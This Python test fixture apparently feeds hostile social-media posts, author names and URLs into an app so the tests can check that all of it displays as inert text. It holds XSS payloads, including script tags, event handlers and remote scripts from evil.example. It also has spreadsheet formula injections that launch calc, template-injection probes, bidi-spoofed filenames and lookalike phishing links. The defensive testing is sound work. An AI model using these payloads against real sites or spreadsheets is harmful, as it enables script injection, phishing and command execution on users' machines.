"""What strangers try: texts, names and addresses that must stay letters on every screen."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime

from tests.journeys.posts import Row, minutes

HACK = "window.hacked=1"
ZALGO = "".join(
    letter + "\u0336\u0489\u030d\u0320\u0353\u0346\u0363" * 12 for letter in "@united help"
)
TEXTS = {
    "script": f"<script>{HACK};alert(1)</script><script src=//evil.example/x.js></script>",
    "handler": f"<img src=x onerror='{HACK}'><body onload={HACK}><details open ontoggle={HACK}>",
    "svg": f"<svg onload={HACK}><animate onbegin={HACK} /><foreignObject><iframe src=//evil>",
    "address": f"javascript:{HACK} data:text/html,<script>{HACK}</script> [x](javascript:{HACK})",
    "break-out": f"\"'></textarea></title></script></style>--><script>{HACK}</script>",
    "json": "</script><script type=application/json>{\"labels\":1}</script>\u2028\u2029",
    "template": "{{ 7*7 }} {% load log %} ${7*7} #{7*7} <%= 7*7 %> %(name)s %s {0} {{constructor}}",
    "htmx": f"<div hx-get=/sign-out/ hx-trigger=load hx-on::load={HACK}></div>",
    "form": "<form action=//evil.example><input name=password autofocus></form><base href=//evil>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil><b style='color:red'>",
    "bidi": "pay \u202egnp.exe\u202c and \u2066\u2067\u2066 no end \u200f\u061c https://a.example/\u202efdp.b",
    "zalgo": ZALGO,
    "huge": "W" * 10_000,
    "huge-rtl": "م" * 5_000,
    "lines": "\n" * 400 + "the end",
    "emoji": "🔥👩‍👩‍👧‍👦🏴‍☠️🇳🇴" * 400,
    "rtl": "שלום, הטיסה שלי מתעכבת. من يجيب؟ @united",
    "link": "log in at https://bank.example@evil.example/login or https://bank.example\\@evil.example",
    "lookalike": "https://xn--80ak6aa92e.com/ https://аpple.com/ http://bank.example.evil.example/",
    "null-ish": "null undefined NaN None [object Object] \u200b\ufeff\u00ad\ufffd",
    "formula": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=HYPERLINK(\"http://evil.example\",\"x\")",
    "formula-wide": "=1+1",
}  # fmt: skip
NAMES = (
    f"<img src=x onerror={HACK}>",
    "\u202eecila\u202c \u2066",
    "W" * 190,
    "=HYPERLINK(\"http://evil.example\")",
    "Z\u0336\u0489\u030d" * 45,
    "{{ 7*7 }}",
    "🔥" * 80,
    "ש" * 120,
)  # fmt: skip
ADDRESSES = (
    f"javascript:{HACK}",
    "data:text/html,<script>window.hacked=1</script>",
    "https://bank.example@evil.example/",
    "https://evil.example/\"onmouseover=window.hacked=1 x=\"",
    "//evil.example",
    "not an address",
)  # fmt: skip
# What is listened for; JSON is YAML too.
PLAN = {
    "title": f"<img src=x onerror={HACK}>",
    "fields": {
        "channel": {"constant": "microblog"},
        "kind": {"constant": "post"},
        "direction": {"constant": "inbound"},
        "external_id": "external_id",
        "at": "at",
        "text": "text",
        "author": "author",
    },
    "topics": [
        {"name": f"<script>{HACK}</script> {'W' * 80}", "query": "awful"},
        {"name": "\u202epot\u202c {{ 7*7 }} =1+1", "query": "cancelled"},
    ],
}
# Awful enough to need an answer, whatever else a text says.
PLEA = " @united this is awful, nobody answers, please help?"


def rows(at: datetime) -> Iterator[Row]:
    """Each text with a hostile handle, name and address; formulas stand at the very beginning."""
    for number, (name, text) in enumerate(TEXTS.items()):
        hostile = NAMES[number % len(NAMES)]
        yield {
            "external_id": f"{name}-{number}",
            "at": (at + minutes(number / 60)).isoformat(),
            "text": text + PLEA,
            "author": f"{hostile}{number}",
            "author_name": hostile,
            "url": ADDRESSES[number % len(ADDRESSES)],
        }
